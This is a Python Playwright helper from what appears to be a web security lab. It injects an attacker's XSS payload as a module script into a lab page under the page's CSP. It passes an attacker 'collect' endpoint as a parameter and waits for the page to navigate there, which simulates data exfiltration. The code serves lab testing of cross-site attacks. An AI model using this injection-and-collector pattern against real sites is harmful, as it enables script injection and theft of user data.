"""Runs the attacker's script in a lab page the way the lab's control will: a fixed file from
the page's own origin, loaded as a module under the page's unchanged CSP.

Until the lead ships the file in web_client/scripts/, Playwright serves it at that address.
"""

import re
from pathlib import Path

from playwright.sync_api import Page

PAYLOAD = Path(__file__).resolve().parents[2] / "infra/attacker_site/payload/xss_payload.js"
INJECT = """(src) => {
  const script = document.createElement("script");
  script.type = "module";
  script.src = src;
  document.head.append(script);
}"""


def run_payload(page: Page, lab, page_url: str | None = None) -> None:
    """Run the payload in `page` (the lab page at `page_url`, by default the cross-site one);
    return once it navigated away."""
    base = (page_url or lab.cross_site).rstrip("/")
    src = f"{base}/scripts/xss_payload.js?collector={lab.attacker}collect"
    body = PAYLOAD.read_text()
    page.route(
        re.compile(r"/scripts/xss_payload\.js"),
        lambda route: route.fulfill(body=body, content_type="text/javascript"),
    )
    with page.expect_navigation(url=re.compile(r"/collect\?"), timeout=15_000):
        page.evaluate(INJECT, src)
